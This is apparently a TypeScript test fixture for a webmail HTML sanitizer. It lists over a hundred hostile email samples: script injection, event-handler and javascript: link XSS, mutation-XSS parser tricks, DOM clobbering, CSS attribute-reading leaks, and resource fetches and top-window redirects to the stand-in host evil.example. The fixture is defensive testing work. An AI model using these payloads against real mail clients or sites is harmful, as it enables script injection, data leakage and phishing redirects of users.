/**
 * Mail that wants to run something, to fetch something, or to lead the reader's window elsewhere. Whatever works tells the
 * host `evil.example`, or the window above by a message or by another address.
 */
export const EVIL = 'evil.example'

export interface HostileMail {
  name: string
  html: string
}

/** What a script would do first if it ran; `says` is known to the test. */
export const says = 'a hostile script ran'
const script = `for(const w of[parent,top])w.postMessage('${says}','*');new Image().src='https://script.${EVIL}/';top.location='https://top.${EVIL}/'`
const quoted = script.replaceAll('"', '&quot;')
const leak = (name: string): string => `https://${name}.${EVIL}/x`

/** The word before the colon names the mail; the rest is its HTML. */
const mails: Readonly<Record<string, string>> = {
  // Scripts, however they are written.
  'a script': `<script>${script}</script>`,
  'a module': `<script type="module">${script}</script>`,
  'a script from elsewhere': `<script src="${leak('src')}"></script>`,
  'a script from the portal': `<script src="/assets/main.js"></script><script>${script}</script>`,
  'a script in capitals': `<SCRIPT>${script}</SCRIPT>`,
  'a script without its end': `<p>Hello<script>${script}`,
  'a script in a comment that ends early': `<!--><script>${script}</script>-->`,
  'a script behind a comment with a bang': `<!--!><script>${script}</script>-->`,
  'a script in svg': `<svg><script>${script}</script></svg>`,
  'a script in svg with a reference': `<svg><script href="${leak('svg-script')}" /></svg>`,
  'a script in math': `<math><script>${script}</script></math>`,
  'a script in a textarea': `<textarea></textarea><script>${script}</script>`,
  'a script behind a title': `<title></title><script>${script}</script>`,
  'a script in noscript': `<noscript><script>${script}</script></noscript>`,
  'a script in a declared shadow': `<div><template shadowrootmode="open"><script>${script}</script><img src="${leak('shadow')}"></template></div>`,
  'a script in a template': `<template><script>${script}</script></template>`,
  'a script with a nonce': `<script nonce="e">${script}</script>`,
  'an import map': `<script type="importmap">{"imports":{"x":"${leak('map')}"}}</script><script type="module">import 'x'</script>`,
  'rules of speculation': `<script type="speculationrules">{"prerender":[{"urls":["${leak('speculation')}"]}]}</script>`,

  // Handlers.
  'an image that fails': `<img src="x:" onerror="${quoted}">`,
  'a body that loads': `<body onload="${quoted}"><p>Hello</p></body>`,
  'svg that loads': `<svg onload="${quoted}"></svg>`,
  'an animation that begins': `<svg><animate onbegin="${quoted}" attributeName="x" dur="1s" /></svg>`,
  'a field that gets the focus': `<input autofocus onfocus="${quoted}">`,
  'details that open': `<details open ontoggle="${quoted}"><summary>Hello</summary></details>`,
  'a video that fails': `<video onerror="${quoted}"><source src="x:" onerror="${quoted}"></video>`,
  'an animation of styles that starts': `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${quoted}">Hello</p>`,
  'content that becomes visible': `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${quoted}">Hello</div>`,
  'a marquee that starts': `<marquee onstart="${quoted}">Hello</marquee>`,
  'a popover that is shown': `<div popover onbeforetoggle="${quoted}" id="p">Hi</div><button popovertarget="p" autofocus>Hello</button>`,
  'a handler with a strange space': `<img/src="x:"/onerror="${quoted}">`,
  'a handler in a namespace': `<svg><image href="x:" onerror="${quoted}" /></svg>`,
  'a page that is shown': `<body onpageshow="${quoted}" onhashchange="${quoted}" onmessage="${quoted}"><p>Hello</p></body>`,

  // Links that run something, or lead somewhere by themselves.
  'a link with a script': `<a href="javascript:${quoted}">Hello</a>`,
  'a link with a script and spaces': `<a href=" java&#10;script:${quoted}">Hello</a>`,
  'a link of svg with a script': `<svg><a xlink:href="javascript:${quoted}"><text y="20">Hello</text></a></svg>`,
  'a link of svg that is changed': `<svg><a><animate attributeName="href" values="javascript:${quoted}" /><text y="20">Hello</text></a></svg>`,
  'a link of math': `<math href="javascript:${quoted}">Hello</math>`,
  'a link with data': `<a href="data:text/html,<script>${quoted}</script>">Hello</a>`,
  'a link to the window above': `<a href="${leak('a-top')}" target="_top">Hello</a>`,
  'a link to the parent': `<a href="${leak('a-parent')}" target="_parent">Hello</a>`,
  'a link that tells': `<a href="https://example.org/" ping="${leak('ping')}">Hello</a>`,
  'a link that downloads': `<a href="${leak('download')}" download>Hello</a>`,
  'a link into the portal': `<a href="/settings/people">Hello</a><a href="#x">There</a>`,
  'a map': `<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m"><area href="javascript:${quoted}" coords="0,0,900,900"></map>`,
  'a base': `<base href="https://base.${EVIL}/"><img src="x.png"><a href="x">Hello</a>`,
  'a base with a target': `<base target="_top"><a href="${leak('base-target')}">Hello</a>`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${leak('refresh')}">`,
  'a refresh with a script': `<meta http-equiv="refresh" content="0;url=javascript:${quoted}">`,
  'a refresh in capitals': `<META HTTP-EQUIV="ReFrEsH" CONTENT="0; URL=${leak('refresh-capitals')}">`,
  'a refresh in the body': `<p>Hello</p><meta http-equiv="refresh" content="0;url=${leak('refresh-body')}">`,
  'a policy of its own': `<meta http-equiv="content-security-policy" content="default-src *; script-src 'unsafe-inline'"><script>${script}</script>`,
  'a cookie': `<meta http-equiv="set-cookie" content="posthouse=x"><p>Hello</p>`,

  // Frames and what is like them.
  'a frame': `<iframe src="${leak('iframe')}"></iframe>`,
  'a frame with a script': `<iframe src="javascript:${quoted}"></iframe>`,
  'a frame with its own document': `<iframe srcdoc="<script>${quoted}</script>"></iframe>`,
  'a frame of the portal': `<iframe src="/"></iframe>`,
  'a set of frames': `<frameset onload="${quoted}"><frame src="${leak('frame')}"></frameset>`,
  'an object': `<object data="${leak('object')}" type="text/html"></object>`,
  'an object with data': `<object data="data:text/html,<script>${quoted}</script>"></object>`,
  'an embed': `<embed src="${leak('embed')}">`,
  'a fenced frame': `<fencedframe src="${leak('fenced')}"></fencedframe>`,
  'an applet': `<applet code="x" codebase="https://applet.${EVIL}/"></applet>`,

  // Forms.
  'a form': `<form action="${leak('form')}"><input name="password"><button>Sign in</button></form>`,
  'a form that leads the window above': `<form action="${leak('form-top')}" target="_top"><button autofocus>Go</button></form>`,
  'a button with an action': `<form id="f"></form><button form="f" formaction="javascript:${quoted}">Go</button>`,
  'a button that is an image': `<form action="${leak('form-image')}"><input type="image" src="${leak('input-image')}"></form>`,
  'an old question': `<isindex action="${leak('isindex')}" prompt="Hello">`,

  // What fetches something.
  'an image': `<img src="${leak('img')}">`,
  'an image of the portal': `<img src="/api/v1/health">`,
  'images to choose from': `<img srcset="${leak('srcset')} 2x, ${leak('srcset2')} 1x">`,
  'a picture': `<picture><source srcset="${leak('source')}"><img src="${leak('picture')}"></picture>`,
  'a lazy image': `<img loading="lazy" src="${leak('lazy')}"><img loading="eager" src="${leak('eager')}">`,
  'an image that registers': `<img attributionsrc="${leak('attribution')}" src="data:,">`,
  'a background': `<body background="${leak('body')}"><table background="${leak('table')}"><tr><td>Hello</table></body>`,
  'an image of svg': `<svg><image href="${leak('svg-image')}" /><image xlink:href="${leak('svg-xlink')}" /></svg>`,
  'a use of svg': `<svg><use href="${leak('use')}#x" /></svg>`,
  'a filter of svg': `<svg><filter id="f"><feImage href="${leak('filter')}" /></filter><rect width="9" height="9" filter="url(#f)" /></svg>`,
  'an image of svg as data': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${leak('data-svg')}'/><script>${quoted}</script></svg>">`,
  'a video': `<video autoplay src="${leak('video')}" poster="${leak('poster')}"></video>`,
  'a sound': `<audio autoplay src="${leak('audio')}"></audio><bgsound src="${leak('bgsound')}">`,
  'a track': `<video><track default src="${leak('track')}"></video>`,
  'a sheet of styles': `<link rel="stylesheet" href="${leak('stylesheet')}">`,
  'an import of styles': `<style>@import url("${leak('import')}");</style><style>@import "${leak('import2')}";</style>`,
  'a font': `<style>@font-face{font-family:x;src:url(${leak('font')})}p{font-family:x}</style><p>Hello</p>`,
  'a background of styles': `<style>p{background:url(${leak('css')})}</style><p style="background:url(${leak('style')})">Hello</p>`,
  'a set of images in styles': `<p style="background-image:image-set('${leak('image-set')}' 1x)">Hello</p>`,
  'a cursor and a list': `<p style="cursor:url(${leak('cursor')}),auto">Hello</p><ul style="list-style:url(${leak('list')})"><li>Hello</ul>`,
  'a mask and a border': `<p style="mask:url(${leak('mask')});border-image:url(${leak('border')}) 1;shape-outside:url(${leak('shape')});float:left">Hello</p>`,
  'styles that read what is there': `<style>input[value^=a]{background:url(${leak('read')})}</style><input value="abc">`,
  'styles that wait for the pointer': `<style>html:hover{background:url(${leak('hover')})}</style><p>Hello</p>`,
  'a variable in styles': `<style>:root{--x:url(${leak('variable')})}p{background:var(--x)}</style><p>Hello</p>`,
  'a namespace of styles': `<style>@namespace url(${leak('namespace')});@document url(${leak('document')}){}</style>`,
  'old ways to run styles': `<p style="width:expression(${quoted});behavior:url(${leak('behavior')});-moz-binding:url(${leak('binding')})">Hello</p>`,
  'names that are looked up ahead': `<link rel="dns-prefetch" href="//dns.${EVIL}"><link rel="preconnect" href="https://connect.${EVIL}">`,
  'pages that are fetched ahead': `<link rel="prefetch" href="${leak('prefetch')}"><link rel="prerender" href="${leak('prerender')}"><link rel="next" href="${leak('next')}">`,
  'modules that are fetched ahead': `<link rel="modulepreload" href="${leak('modulepreload')}"><link rel="preload" as="image" href="${leak('preload')}">`,
  'an icon and a manifest': `<link rel="icon" href="${leak('icon')}"><link rel="manifest" href="${leak('manifest')}">`,
  'names in links that are looked up ahead': `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="https://lookup.${EVIL}/">Hello</a>`,

  // What is read differently when it is read again.
  'math that changes when it is read again': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${quoted.replaceAll(' ', '/**/')}&gt;">`,
  'svg that changes when it is read again': `<svg></p><style><a id="</style><img src=x: onerror='${quoted.replaceAll("'", '&#39;')}'>">`,
  'forms that change when they are read again': `<form><math><mtext></form><form><mglyph><style></math><img src="${leak('nested')}" onerror="${quoted}">`,
  'text that ends early': `<xmp></xmp><img src="x:" onerror="${quoted}"><listing>&lt;img src="x:" onerror="${quoted}"&gt;</listing>`,
  'old text to the end': `<p>Hello</p><plaintext><script>${script}</script>`,
  'a select with something in it': `<select><template><img src="x:" onerror="${quoted}"></template><style></select><img src="x:" onerror="${quoted}">`,
  'nesting without an end': `${'<div>'.repeat(5_000)}<script>${script}</script>`,
  'names that hide others': `<form name="body"><input name="head"></form><img name="parent"><a id="documentElement" href="${leak('clobber')}">Hello</a><script>${script}</script>`,
  'bytes of nothing': `<img src="x:" on\u0000error="${quoted}"><scr\u0000ipt>${script}</scr\u0000ipt>`,
}

export const hostileMails: readonly HostileMail[] = Object.entries(mails).map(([name, html]) => ({ name, html }))
